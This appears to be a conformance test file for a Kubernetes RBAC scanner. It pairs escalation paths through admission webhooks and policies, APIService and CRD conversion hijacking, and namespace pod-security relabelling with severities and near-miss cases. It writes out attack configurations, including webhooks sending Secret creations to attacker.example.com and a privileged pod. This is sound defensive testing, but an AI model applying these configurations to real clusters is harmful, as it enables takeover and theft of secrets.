"""Admission, namespaces and the API's own extension: who sees, rewrites or stops what others write."""

import time
from typing import Any

from scanner.model.policy import Severity
from tests.builders import container, rule
from tests.conformance.primitives.execute import (
    NS,
    SETTLE_SECONDS,
    Attacker,
    DeniedError,
    Gain,
    NearMiss,
    Primitive,
    call,
    everywhere,
    may,
    within,
)
from tests.conformance.primitives.objects import CORE, DEFINITIONS, STRICT, STRICT_WORLD, definition, pod, thing

GROUP = "admissionregistration.k8s.io"
V1 = f"{GROUP}/v1"
ADMISSION = f"/apis/{V1}"
#: Webhooks and policies here are about one namespace, so that other tests see nothing of them.
HERE = {"matchLabels": {"kubernetes.io/metadata.name": NS}}
RULES = [{"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE"], "resources": ["secrets"]}]
WEBHOOK = {
    "name": "all.example.com",
    "clientConfig": {"url": "https://attacker.example.com/"},
    "sideEffects": "None",
    "admissionReviewVersions": ["v1"],
    "failurePolicy": "Ignore",
    "namespaceSelector": HERE,
    "rules": RULES,
}
#: Two kinds of webhook configurations, with the policy about each.
WEBHOOKS = (
    ("MutatingWebhookConfiguration", "rbac/modify-mutating-admission", Gain.CLUSTER_ADMIN, Severity.CRITICAL),
    ("ValidatingWebhookConfiguration", "rbac/modify-validating-webhooks", Gain.READING, Severity.HIGH),
)
VALIDATION = thing(
    "ValidatingAdmissionPolicy",
    f"{NS}-guard",
    api=V1,
    spec={
        "failurePolicy": "Ignore",
        "paramKind": {"apiVersion": "v1", "kind": "ConfigMap"},
        "matchConstraints": {"namespaceSelector": HERE, "resourceRules": RULES},
        "validations": [{"expression": "params.data.mode != 'strict'"}],
    },
)
VALIDATION_BINDING = thing(
    "ValidatingAdmissionPolicyBinding",
    f"{NS}-guard",
    api=V1,
    spec={
        "policyName": f"{NS}-guard",
        "validationActions": ["Deny"],
        "matchResources": {"namespaceSelector": HERE},
        "paramRef": {"name": "guard", "namespace": NS, "parameterNotFoundAction": "Deny"},
    },
)
#: Who changes a binding with parameters must be allowed to read them; this one has none.
PLAIN_BINDING = thing(
    "ValidatingAdmissionPolicyBinding",
    f"{NS}-plain",
    api=V1,
    spec={
        "policyName": f"{NS}-guard",
        "validationActions": ["Deny"],
        "matchResources": {"namespaceSelector": HERE},
    },
)
PARAMETERS = thing("ConfigMap", "guard", namespace=NS, data={"mode": "lax"})
MUTATION = thing(
    "MutatingAdmissionPolicy",
    f"{NS}-inject",
    api=V1,
    spec={
        "failurePolicy": "Ignore",
        "reinvocationPolicy": "Never",
        "matchConstraints": {"namespaceSelector": HERE, "resourceRules": RULES},
        "mutations": [
            {
                "patchType": "ApplyConfiguration",
                "applyConfiguration": {"expression": "Object{metadata: Object.metadata{labels: {'injected': 'yes'}}}"},
            }
        ],
    },
)
MUTATION_BINDING = thing("MutatingAdmissionPolicyBinding", f"{NS}-inject", api=V1, spec={"policyName": f"{NS}-inject"})
API_SERVICES = "/apis/apiregistration.k8s.io/v1/apiservices"
CONVERSION = {
    "strategy": "Webhook",
    "webhook": {"clientConfig": {"url": "https://attacker.example.com/"}, "conversionReviewVersions": ["v1"]},
}
LIFT = call(
    "PATCH",
    f"/api/v1/namespaces/{STRICT}",
    {"metadata": {"labels": {"pod-security.kubernetes.io/enforce": "privileged"}}},
)
PRIVILEGED = pod("taken", namespace=STRICT, containers=[container(securityContext={"privileged": True})])
#: Policies of engines, by resource and API group, and whether they have no namespace.
ENGINES = (
    ("clusterpolicies", "kyverno.io", True),
    ("constrainttemplates", "templates.gatekeeper.sh", True),
    ("clusteradmissionpolicies", "policies.kubewarden.io", True),
    ("policies", "kyverno.io", False),
    ("policyexceptions", "kyverno.io", False),
)


def run_privileged(attacker: Attacker) -> None:
    """Create a privileged pod as soon as admission knows of the namespace's new label."""
    deadline = time.monotonic() + SETTLE_SECONDS
    while True:
        try:
            attacker.call("POST", f"/api/v1/namespaces/{STRICT}/pods", PRIVILEGED, dry_run=True)
        except DeniedError as error:
            if "violates PodSecurity" not in str(error) or time.monotonic() > deadline:
                raise
        else:
            return


def _plural(kind: str) -> str:
    return f"{kind.lower()}s"


def _webhooks(kind: str) -> dict[str, Any]:
    return thing(kind, f"{NS}-hook", api=V1, webhooks=[WEBHOOK])


PRIMITIVES = (
    *(
        Primitive(
            rows="56" if kind.startswith("Mutating") else "57",
            name=f"create {_plural(kind)}",
            policy=policy,
            gains=gains,
            severity=severity,
            given=(everywhere(rule("create", _plural(kind), group=GROUP)),),
            attempt=(call("POST", f"{ADMISSION}/{_plural(kind)}", _webhooks(kind), dry_run=True),),
            near_misses=(
                NearMiss(why="by a RoleBinding", given=(within(rule("create", _plural(kind), group=GROUP)),)),
                NearMiss(
                    why="create is not restricted by names",
                    given=(everywhere(rule("create", _plural(kind), group=GROUP, names="mine")),),
                ),
                NearMiss(why="reading", given=(everywhere(rule("get list watch", _plural(kind), group=GROUP)),)),
            ),
        )
        for kind, policy, gains, severity in WEBHOOKS
    ),
    *(
        Primitive(
            rows="56" if kind.startswith("Mutating") else "57",
            name=f"patch {_plural(kind)}",
            policy=policy,
            gains=gains,
            severity=severity,
            given=(everywhere(rule("patch", _plural(kind), group=GROUP)),),
            attempt=(call("PATCH", f"{ADMISSION}/{_plural(kind)}/{NS}-hook", {"webhooks": [WEBHOOK]}, dry_run=True),),
            world=(thing(kind, f"{NS}-hook", api=V1, webhooks=[]),),
            near_misses=(
                NearMiss(
                    why="another one by its name",
                    given=(everywhere(rule("patch", _plural(kind), group=GROUP, names="mine")),),
                ),
            ),
        )
        for kind, policy, gains, severity in WEBHOOKS
    ),
    Primitive(
        rows="58",
        name="create mutatingadmissionpolicies and their bindings, by two bindings",
        policy="rbac/modify-mutating-admission",
        gains=Gain.CLUSTER_ADMIN,
        severity=Severity.CRITICAL,
        given=(
            everywhere(rule("create", "mutatingadmissionpolicies", group=GROUP)),
            everywhere(rule("create", "mutatingadmissionpolicybindings", group=GROUP)),
        ),
        attempt=(
            call("POST", f"{ADMISSION}/mutatingadmissionpolicies", MUTATION, dry_run=True),
            call("POST", f"{ADMISSION}/mutatingadmissionpolicybindings", MUTATION_BINDING, dry_run=True),
        ),
        near_misses=(
            NearMiss(
                why="without bindings", given=(everywhere(rule("create", "mutatingadmissionpolicies", group=GROUP)),)
            ),
            NearMiss(
                why="without policies",
                given=(everywhere(rule("create update patch", "mutatingadmissionpolicybindings", group=GROUP)),),
            ),
        ),
    ),
    Primitive(
        rows="58",
        name="patch mutatingadmissionpolicies",
        policy="rbac/modify-mutating-admission",
        gains=Gain.CLUSTER_ADMIN,
        severity=Severity.CRITICAL,
        given=(everywhere(rule("patch", "mutatingadmissionpolicies", group=GROUP)),),
        attempt=(
            call(
                "PATCH",
                f"{ADMISSION}/mutatingadmissionpolicies/{NS}-inject",
                {"spec": {"matchConditions": [{"name": "any", "expression": "true"}]}},
                dry_run=True,
            ),
        ),
        world=(MUTATION,),
        near_misses=(
            NearMiss(
                why="another one by its name",
                given=(everywhere(rule("patch update", "mutatingadmissionpolicies", group=GROUP, names="mine")),),
            ),
        ),
    ),
    *(
        Primitive(
            rows="59",
            name=f"delete {_plural(kind)}",
            policy="rbac/disable-admission",
            gains=Gain.CLUSTER_ADMIN,
            severity=Severity.MEDIUM,
            given=(everywhere(rule("delete", _plural(kind), group=GROUP)),),
            attempt=(call("DELETE", f"{ADMISSION}/{_plural(kind)}/{NS}-hook"),),
            world=(thing(kind, f"{NS}-hook", api=V1, webhooks=[]),),
            near_misses=(
                NearMiss(why="by a RoleBinding", given=(within(rule("delete", _plural(kind), group=GROUP)),)),
                NearMiss(why="reading", given=(everywhere(rule("get list watch", _plural(kind), group=GROUP)),)),
            ),
        )
        for kind, *_ in WEBHOOKS
    ),
    *(
        Primitive(
            rows="59",
            name=f"{verb} {plural}",
            policy="rbac/disable-admission",
            gains=Gain.CLUSTER_ADMIN,
            severity=Severity.MEDIUM,
            given=(everywhere(rule(verb, plural, group=GROUP)),),
            attempt=(call(method, f"{ADMISSION}/{plural}/{name}", body),),
            world=world,
            near_misses=(
                NearMiss(
                    why="another one by its name", given=(everywhere(rule(verb, plural, group=GROUP, names="mine")),)
                ),
                NearMiss(why="adding more", given=(everywhere(rule("create", plural, group=GROUP)),)),
            ),
        )
        for verb, method, plural, name, body, world in (
            (
                "patch",
                "PATCH",
                "validatingadmissionpolicies",
                f"{NS}-guard",
                {"spec": {"matchConditions": [{"name": "never", "expression": "false"}]}},
                (VALIDATION,),
            ),
            (
                "patch",
                "PATCH",
                "validatingadmissionpolicybindings",
                f"{NS}-plain",
                {"spec": {"validationActions": ["Audit"]}},
                (PLAIN_BINDING,),
            ),
            (
                "delete",
                "DELETE",
                "validatingadmissionpolicybindings",
                f"{NS}-plain",
                None,
                (PLAIN_BINDING,),
            ),
        )
    ),
    Primitive(
        rows="59",
        name="delete mutatingadmissionpolicies",
        policy="rbac/disable-admission",
        gains=Gain.CLUSTER_ADMIN,
        severity=Severity.MEDIUM,
        given=(everywhere(rule("delete", "mutatingadmissionpolicies", group=GROUP)),),
        attempt=(call("DELETE", f"{ADMISSION}/mutatingadmissionpolicies/{NS}-inject"),),
        world=(MUTATION,),
        near_misses=(
            NearMiss(why="by a RoleBinding", given=(within(rule("delete", "mutatingadmissionpolicies", group=GROUP)),)),
        ),
    ),
    *(
        Primitive(
            rows="59",
            name=f"{verb} {plural}.{group}",
            policy="rbac/disable-admission",
            gains=Gain.CLUSTER_ADMIN,
            severity=Severity.MEDIUM if is_global else Severity.LOW,
            given=((everywhere if is_global else within)(rule(verb, plural, group=group)),),
            attempt=(may(verb, plural, group=group, namespace="" if is_global else NS),),
            not_executable="it takes the policy engine; RBAC says whether its policies can be changed",
            near_misses=(
                NearMiss(
                    why="the kind in another group",
                    given=((everywhere if is_global else within)(rule(verb, plural, group="example.com")),),
                ),
                NearMiss(
                    why="reading", given=((everywhere if is_global else within)(rule("get list", plural, group=group)),)
                ),
            ),
        )
        for plural, group, is_global in ENGINES
        for verb in ("patch",)
    ),
    Primitive(
        rows="59",
        name="patch the parameters of a policy",
        policy="rbac/change-admission-parameters",
        gains=Gain.CLUSTER_ADMIN,
        severity=Severity.MEDIUM,
        given=(within(rule("patch", "configmaps")),),
        attempt=(call("PATCH", f"{CORE}/configmaps/guard", {"data": {"mode": "off"}}),),
        world=(VALIDATION, VALIDATION_BINDING, PARAMETERS),
        near_misses=(
            NearMiss(why="another object by its name", given=(within(rule("patch", "configmaps", names="theme")),)),
            NearMiss(why="reading it", given=(within(rule("get list watch create delete", "configmaps")),)),
            NearMiss(
                why="objects in another namespace",
                given=(within(rule("patch update", "configmaps"), namespace="default"),),
            ),
        ),
    ),
    Primitive(
        rows="59",
        name="patch the parameters of a policy by their name",
        policy="rbac/change-admission-parameters",
        gains=Gain.CLUSTER_ADMIN,
        severity=Severity.MEDIUM,
        given=(within(rule("patch", "configmaps", names="guard")),),
        attempt=(call("PATCH", f"{CORE}/configmaps/guard", {"data": {"mode": "off"}}),),
        world=(VALIDATION, VALIDATION_BINDING, PARAMETERS),
        near_misses=(NearMiss(why="a kind of that name", given=(within(rule("patch", "secrets", names="guard")),)),),
    ),
    Primitive(
        rows="60",
        name="create apiservices",
        policy="rbac/intercept-api-groups",
        gains=Gain.READING,
        severity=Severity.HIGH,
        given=(everywhere(rule("create", "apiservices", group="apiregistration.k8s.io")),),
        attempt=(
            call(
                "POST",
                API_SERVICES,
                thing(
                    "APIService",
                    f"v1.{NS}.example.com",
                    api="apiregistration.k8s.io/v1",
                    spec={
                        "group": f"{NS}.example.com",
                        "version": "v1",
                        "groupPriorityMinimum": 100,
                        "versionPriority": 10,
                        "insecureSkipTLSVerify": True,
                        "service": {"namespace": NS, "name": "taken"},
                    },
                ),
                dry_run=True,
            ),
        ),
        near_misses=(
            NearMiss(
                why="by a RoleBinding", given=(within(rule("create", "apiservices", group="apiregistration.k8s.io")),)
            ),
            NearMiss(
                why="another group",
                given=(everywhere(rule("create update patch", "apiservices", group="example.com")),),
            ),
        ),
    ),
    Primitive(
        rows="60",
        name="patch apiservices of Kubernetes' own groups",
        policy="rbac/intercept-api-groups",
        gains=Gain.READING,
        severity=Severity.HIGH,
        given=(everywhere(rule("patch", "apiservices", group="apiregistration.k8s.io")),),
        attempt=(
            call(
                "PATCH",
                f"{API_SERVICES}/v1.apps",
                {"spec": {"service": {"namespace": NS, "name": "taken"}, "insecureSkipTLSVerify": True}},
                dry_run=True,
            ),
        ),
        near_misses=(
            NearMiss(
                why="another one by its name",
                given=(
                    everywhere(
                        rule("patch", "apiservices", group="apiregistration.k8s.io", names="v1beta1.metrics.k8s.io")
                    ),
                ),
            ),
        ),
    ),
    Primitive(
        rows="61",
        name="patch customresourcedefinitions",
        policy="rbac/intercept-api-groups",
        gains=Gain.READING,
        severity=Severity.HIGH,
        given=(everywhere(rule("patch", "customresourcedefinitions", group="apiextensions.k8s.io")),),
        attempt=(
            call("PATCH", f"{DEFINITIONS}/things.{NS}.example.com", {"spec": {"conversion": CONVERSION}}, dry_run=True),
        ),
        world=(definition(),),
        near_misses=(
            NearMiss(
                why="their status",
                given=(everywhere(rule("patch", "customresourcedefinitions/status", group="apiextensions.k8s.io")),),
            ),
            NearMiss(
                why="another one by its name",
                given=(
                    everywhere(
                        rule("patch", "customresourcedefinitions", group="apiextensions.k8s.io", names="a.example.com")
                    ),
                ),
            ),
            NearMiss(
                why="adding more",
                given=(everywhere(rule("create get list", "customresourcedefinitions", group="apiextensions.k8s.io")),),
            ),
        ),
    ),
    Primitive(
        rows="62",
        name="patch namespaces, by a RoleBinding",
        policy="rbac/relabel-namespaces",
        gains=Gain.DENIAL,
        severity=Severity.LOW,
        given=(within(rule("patch", "namespaces"), namespace=STRICT),),
        attempt=(LIFT,),
        world=STRICT_WORLD,
        near_misses=(
            NearMiss(
                why="another one by its name",
                given=(within(rule("patch", "namespaces", names="staging"), namespace=STRICT),),
            ),
            NearMiss(why="their status", given=(within(rule("patch", "namespaces/status"), namespace=STRICT),)),
            NearMiss(why="what is in them", given=(within(rule("*", "pods configmaps"), namespace=STRICT),)),
        ),
    ),
    Primitive(
        rows="62",
        name="patch namespaces everywhere",
        policy="rbac/relabel-namespaces",
        gains=Gain.DENIAL,
        severity=Severity.MEDIUM,
        given=(everywhere(rule("patch", "namespaces")),),
        attempt=(LIFT,),
        world=STRICT_WORLD,
        near_misses=(NearMiss(why="creating them", given=(everywhere(rule("create get list", "namespaces")),)),),
    ),
    Primitive(
        rows="62",
        name="patch namespaces and create pods, by two bindings",
        policy="rbac/lift-pod-security",
        gains=Gain.NODE,
        severity=Severity.HIGH,
        given=(
            within(rule("patch", "namespaces"), namespace=STRICT),
            within(rule("create", "pods"), namespace=STRICT, to=f"Group system:serviceaccounts:{NS}"),
        ),
        attempt=(LIFT, run_privileged),
        world=STRICT_WORLD,
        near_misses=(
            NearMiss(why="labels without pods", given=(within(rule("patch", "namespaces"), namespace=STRICT),)),
            NearMiss(
                why="pods without labels",
                given=(within(rule("create", "pods"), namespace=STRICT),),
                attempt=(call("POST", f"/api/v1/namespaces/{STRICT}/pods", PRIVILEGED, dry_run=True),),
            ),
            NearMiss(
                why="labels of one namespace, pods in another",
                given=(within(rule("patch", "namespaces"), namespace=STRICT), within(rule("create", "pods"))),
            ),
        ),
    ),
    Primitive(
        rows="63",
        name="create namespaces and pods everywhere",
        policy="rbac/create-unguarded-namespaces",
        gains=Gain.NODE,
        severity=Severity.HIGH,
        given=(everywhere(rule("create", "namespaces")), everywhere(rule("create", "pods"))),
        attempt=(
            call("POST", "/api/v1/namespaces", thing("Namespace", f"{NS}-new")),
            may("create", "pods", namespace=f"{NS}-new"),
        ),
        leaves=(f"/api/v1/namespaces/{NS}-new",),
        not_executable="no controller makes the service account that a pod in the new namespace runs as",
        near_misses=(
            NearMiss(why="namespaces without pods", given=(everywhere(rule("create", "namespaces")),)),
            NearMiss(why="pods without namespaces", given=(everywhere(rule("create", "pods")),)),
            NearMiss(
                why="pods in one namespace",
                given=(everywhere(rule("create", "namespaces")), within(rule("create", "pods"))),
            ),
        ),
    ),
)
